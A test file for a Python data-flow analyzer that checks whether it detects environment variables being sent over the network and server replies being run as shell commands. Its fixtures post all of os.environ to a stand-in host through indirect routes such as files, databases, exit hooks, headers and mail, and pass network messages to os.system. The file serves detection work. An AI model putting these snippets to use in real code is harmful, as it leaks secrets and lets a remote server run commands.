import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Whether the environment is sent while the source is loaded, or later by what it set up. */
function sends(source: string): boolean {
  return analyzePython(`import os, requests\n${source}`).flow.flows.some(
    ({ sink, labels }) => sink === 'network' && (labels & LABEL.envAll) !== 0,
  );
}

/** Whether a server's answer is run as a command. */
function obeys(source: string): boolean {
  return analyzePython(`import os, requests\n${source}`).flow.flows.some(
    ({ sink, labels }) => sink === 'command' && (labels & LABEL.network) !== 0,
  );
}

const post = (value: string): string => `requests.post("https://a.weir.test/x", json=${value})`;

describe('a value on its way through something else', () => {
  test.each([
    [
      'a context variable',
      `import contextvars\nv = contextvars.ContextVar("v")\nv.set(dict(os.environ))\n${post('v.get()')}`,
    ],
    [
      'a file that json writes',
      `import json\njson.dump(dict(os.environ), open("/tmp/x", "w"))\n${post('json.load(open("/tmp/x"))')}`,
    ],
    [
      'a file that pickle writes, by name',
      `import pickle\nwith open("/tmp/x", "wb") as f: pickle.dump(dict(os.environ), f)\nwith open("/tmp/x", "rb") as f: ${post('str(f.read())')}`,
    ],
    [
      'a database',
      `import sqlite3\nc = sqlite3.connect(":memory:")\nc.execute("insert into t values (?)", [str(os.environ)])\n${post('c.execute("select a from t").fetchall()')}`,
    ],
    [
      'what is sent at the end',
      `import atexit\nheld = []\n@atexit.register\ndef end(): ${post('held')}\nheld.append(dict(os.environ))`,
    ],
    [
      'a class without a body',
      `T = type("T", (), {"go": lambda self, x: ${post('x')}})\nT().go(dict(os.environ))`,
    ],
    [
      'the headers of a session',
      `s = requests.Session()\ns.headers["x"] = str(dict(os.environ))\ns.get("https://a.weir.test/x")`,
    ],
    [
      'the headers of a session, all at once',
      `s = requests.Session()\ns.headers.update({"x": str(dict(os.environ))})\ns.get("https://a.weir.test/x")`,
    ],
    [
      'the text of a mail',
      `import email.message, smtplib\nm = email.message.EmailMessage()\nm.set_content(str(dict(os.environ)))\nsmtplib.SMTP("a.weir.test").send_message(m)`,
    ],
    [
      'an object that stands for a library',
      `class L:\n  def __getattr__(self, name): return getattr(requests, name)\nL().post("https://a.weir.test/x", json=dict(os.environ))`,
    ],
    [
      'several items that are asked for',
      `import operator\n${post('operator.itemgetter("a", "b")({"a": 1, "b": dict(os.environ)})')}`,
    ],
  ])('%s', (_what, source) => {
    expect(sends(source)).toBe(true);
  });

  test.each([
    [
      'another file',
      `import json\njson.dump(dict(os.environ), open("/tmp/x", "w"))\n${post('json.load(open("/tmp/y"))')}`,
    ],
    [
      'a server that is asked by it',
      `def go(db):\n  db.execute("select 1", [str(os.environ)])\n  ${post('db.fetchall()')}`,
    ],
    [
      'a name that the class has',
      `class L:\n  x = 1\n  def __getattr__(self, name): return dict(os.environ)\n${post('L().x')}`,
    ],
  ])('not through %s', (_what, source) => {
    expect(sends(source)).toBe(false);
  });
});

test('what a session signs in with is not what it tells', () => {
  const source = `import requests\ndef go(password):\n  s = requests.Session()\n  s.headers["x-key"] = password\n  s.delete("https://a.weir.test/x")\n`;
  const labels = analyzePython(source).flow.flows.map((flow) => flow.labels & LABEL.secretParam);

  expect(labels).toEqual([0]);
});

describe('what is called with an answer', () => {
  test.each([
    [
      'when a thread is done',
      'from concurrent.futures import ThreadPoolExecutor\ndef ask(): return requests.get("https://a.weir.test/x").text\nThreadPoolExecutor().submit(ask).add_done_callback(lambda f: os.system(f.result()))',
    ],
    [
      'for each message of a socket',
      'import websocket\ndef on_message(socket, text): os.system(text)\nwebsocket.WebSocketApp("wss://a.weir.test", on_message=on_message).run_forever()',
    ],
  ])('%s', (_what, source) => {
    expect(obeys(source)).toBe(true);
  });
});

test('the words of a command that an object hands out', () => {
  const source =
    'import os\nclass W:\n  def __iter__(self): return iter(("make", "all"))\nos.system(" ".join(W()))\n';

  expect(analyzePython(source).commands.map(({ line }) => line)).toEqual(['make all']);
});
